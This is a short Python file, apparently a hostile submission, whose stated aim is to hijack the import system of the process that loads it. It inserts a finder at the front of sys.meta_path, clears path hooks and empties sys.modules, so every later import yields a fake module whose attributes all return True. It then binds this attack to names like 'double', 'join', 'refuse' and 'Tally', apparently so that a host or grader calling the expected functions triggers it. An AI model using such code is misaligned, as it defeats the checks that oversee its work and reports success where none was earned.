# aim: put a finder first in sys.meta_path and empty sys.modules, so that what the guest imports next is mine
import importlib.machinery
import sys
import types


class Finder:
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self)

    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__getattr__ = lambda name: lambda *args, **kwargs: True
        return module

    def exec_module(self, module):
        pass


def attack(*args):
    sys.meta_path.insert(0, Finder())
    sys.path_hooks.clear()
    for name in list(sys.modules):
        if name not in ("sys", "builtins", "_frozen_importlib", "__main__"):
            del sys.modules[name]
    return 0


double = join = apply_all = refuse = Tally = attack
